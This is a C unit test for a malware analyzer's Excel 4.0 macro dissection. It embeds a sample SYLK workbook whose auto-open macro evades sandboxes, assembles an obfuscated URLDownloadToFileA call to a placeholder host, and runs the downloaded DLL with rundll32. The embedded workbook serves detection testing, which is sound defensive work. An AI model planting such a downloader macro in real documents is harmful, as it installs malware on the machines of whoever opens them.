/* test_macro_sheets.c - the same Excel 4.0 macro in every container, as Excel saved it, does the
 * same; and a workbook of ours that fetches by one is malicious. */
#include "analyze/analyze.h"

#include "support/shared.h"

#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

#define SAMPLES "/documents/oletools/tests/test-data/excel4-macros"

/* A symbolic link whose formulas are in pieces; the host does not exist. */
static const char workbook[] =
        "ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"
        "C;X1;Y1;K0;EIF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)\r\n"
        "C;X1;Y2;K0;EFORMULA(\"=CALL(\"&CHAR(34)&\"urlmon\"&CHAR(34)&\",\"\"URLDownloadToFileA\"\","
        "\"\"JJCCJJ\"\",0,\"\"http://"
        "files.exam\"&R1C2&\"\"\",\"\"C:\\Users\\Public\\a.dll\"\",0,0)\","
        "R3C1)\r\n"
        "C;X2;Y1;K\"ple/a\"\r\n"
        "C;X1;Y4;K0;EEXEC(\"rundll32 C:\\Users\\Public\\a.dll,x\")\r\n"
        "C;X1;Y5;K0;EHALT()\r\nE\r\n";

static int as_file(struct hn_bytes bytes)
{
    char path[] = "/tmp/hn_xlm_test_XXXXXX";
    int fd = mkstemp(path);

    assert_true(fd >= 0);
    (void)unlink(path);
    assert_int_equal(write(fd, bytes.ptr, bytes.len), bytes.len);
    return fd;
}

static const struct dissect_object *macros_of(const struct analyze_sample *sample)
{
    for (uint32_t id = 0; id < dissect_count(sample->dissect); id++)
        if (dissect_get(sample->dissect, id)->format == DISSECT_XLM)
            return dissect_get(sample->dissect, id);
    return NULL;
}

static const struct dissect_act *act_of(
        const struct dissect_object *object, enum script_act_kind kind)
{
    const struct dissect_act *act = object->acts;

    while (act != NULL && act->kind != kind)
        act = act->next;
    return act;
}

static void analyze(struct analyze_worker *worker, const char *name, struct hn_bytes bytes,
        struct analyze_sample *ret_sample)
{
    struct analyze_task task = {
        .fd = as_file(bytes), .name = hn_text_cstr(name), .keep = DISSECT_KEEP_SCRIPTS
    };

    assert_int_equal(analyze_worker_run(worker, &task, ret_sample, NULL), HN_OK);
    (void)close(task.fd);
}

static void each_container_shows_the_same_message(void **state)
{
    char *folder = shared_path_or_skip("data" SAMPLES);
    char pattern[4096];
    struct analyze_worker *worker = NULL;
    glob_t found;

    (void)state;
    (void)snprintf(pattern, sizeof pattern, "%s/*", folder);
    free(folder);
    assert_int_equal(glob(pattern, 0, NULL, &found), 0);
    assert_int_equal(analyze_worker_start(NULL, NULL, &worker, NULL), HN_OK);
    for (size_t i = 0; i < found.gl_pathc; i++) {
        struct hn_bytes bytes = shared_read(found.gl_pathv[i]);
        const struct dissect_object *macros;
        const struct dissect_act *act;
        struct analyze_sample sample;

        analyze(worker, found.gl_pathv[i], bytes, &sample);
        macros = macros_of(&sample);
        assert_non_null(macros);
        act = act_of(macros, SCRIPT_ACT_SHOW);
        assert_non_null(act);
        assert_false(act->conditional);
        assert_true(hn_text_eq(act->fields[0].value, HN_TEXT("This is a sample Excel 4 macro")));
        assert_null(act->next);
        analyze_sample_deinit(&sample);
        shared_free(bytes);
    }
    print_message("%zu workbooks\n", found.gl_pathc);
    globfree(&found);
    analyze_worker_stop(worker);
}

static void a_download_is_found(void **state)
{
    struct analyze_worker *worker = NULL;
    const struct dissect_object *macros;
    const struct dissect_act *act;
    struct analyze_sample sample;

    (void)state;
    assert_int_equal(analyze_worker_start(NULL, NULL, &worker, NULL), HN_OK);
    analyze(worker, "order.slk", hn_bytes_of(workbook, sizeof workbook - 1), &sample);
    macros = macros_of(&sample);
    assert_non_null(macros);
    act = act_of(macros, SCRIPT_ACT_HTTP);
    assert_non_null(act);
    assert_true(hn_text_eq(act->fields[0].value, HN_TEXT("http://files.example/a")));
    act = act_of(macros, SCRIPT_ACT_PROCESS);
    assert_non_null(act);
    assert_true(hn_text_eq(act->fields[0].value, HN_TEXT("rundll32 C:\\Users\\Public\\a.dll,x")));
    analyze_sample_deinit(&sample);
    analyze_worker_stop(worker);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_container_shows_the_same_message),
        cmocka_unit_test(a_download_is_found),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
